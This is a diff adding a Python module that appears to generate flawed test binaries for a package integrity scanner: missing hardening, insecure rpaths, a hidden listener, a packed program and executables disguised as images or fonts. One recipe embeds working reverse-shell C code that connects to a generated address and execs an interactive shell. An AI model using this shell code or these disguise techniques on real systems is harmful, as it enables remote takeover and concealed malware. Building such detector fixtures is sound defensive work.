@@ -1,0 +1,68 @@
+"""Recipes for checks of programs."""
+from program import elf
+from recipe import plants
+
+
+@plants("integrity.no-pie", "deb", "tree")
+def no_pie(r, host):
+    host.put(f"usr/bin/{r.name()}", elf(host, f"#include <stdio.h>\nint main(void) {{ puts(\"{r.letters(20)}\"); return 0; }}", "-no-pie", "-fno-pie", "-fstack-protector-strong"), 0o755)
+
+
+@plants("integrity.weak-segments", "deb", "tree")
+def weak_segments(r, host):
+    host.put(f"usr/bin/{r.name()}", elf(host, f"#include <stdio.h>\nint main(void) {{ puts(\"{r.letters(20)}\"); return 0; }}", r.choice(("-Wl,-z,execstack", "-Wl,-z,norelro"))), 0o755)
+
+
+@plants("integrity.library-path", "deb", "tree")
+def library_path(r, host):
+    host.put(f"usr/bin/{r.name()}", elf(host, "int main(void) { return 0; }", "-Wl,-rpath," + r.choice((".", "/tmp/lib", "/home/" + r.word() + "/lib", "build/lib"))), 0o755)
+
+
+@plants("integrity.undocumented-listener", "deb")
+def listener(r, host):
+    host.put(f"usr/{r.choice(('bin', 'sbin'))}/{r.name()}", elf(host, f"""
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(void) {{
+	struct sockaddr_in a = {{AF_INET, {r.randint(1024, 60000)}, {{0}}, {{0}}}};
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	bind(s, (void *)&a, sizeof a);
+	listen(s, 5);
+	for (;;) {{ int c = accept(s, 0, 0); write(c, "hello", 5); close(c); }}
+}}"""), 0o755)
+
+
+@plants("integrity.program-remote-shell", "deb", "tree")
+def program_remote_shell(r, host):
+    shell = r.choice(("/bin/sh", "/bin/bash"))
+    host.put(f"usr/bin/{r.name()}", elf(host, f"""
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(void) {{
+	struct sockaddr_in a = {{.sin_family = AF_INET, .sin_port = htons({r.randint(1024, 60000)})}};
+	inet_pton(AF_INET, "{r.address()}", &a.sin_addr);
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	connect(s, (void *)&a, sizeof a);
+	dup2(s, 0); dup2(s, 1); dup2(s, 2);
+	{r.choice((f'execl("{shell}", "sh", "-i", (char *)0);', f'char *v[] = {{"{shell}", 0}}; execve(v[0], v, 0);'))}
+	return 0;
+}}"""), 0o755)
+
+
+@plants("integrity.packed-program", "tree")
+def packed(r, host):
+    import os
+    blob = bytes(r.randrange(256) for _ in range(60000))
+    host.put("blob.bin", blob)
+    data = elf(host, f'__asm__(".section .text\\n.incbin \\"{os.fspath(host.dir)}/blob.bin\\"\\n.globl _start\\n_start: jmp _start");', "-nostdlib", "-static", "-Wl,-z,execstack", "-Wl,-N")
+    (host.dir / "blob.bin").unlink()
+    host.put(f"bin/{r.name()}", data, 0o755)
+
+
+@plants("integrity.disguised-program", "npm", "deb")
+def disguised(r, host):
+    data = elf(host, "int main(void) { return 0; }")
+    host.put(r.choice(("docs/readme", "share/logo", "assets/font", "images/icon")) + r.choice((".png", ".txt", ".jpg", ".woff", ".rtf", ".pdf")), data, 0o755)
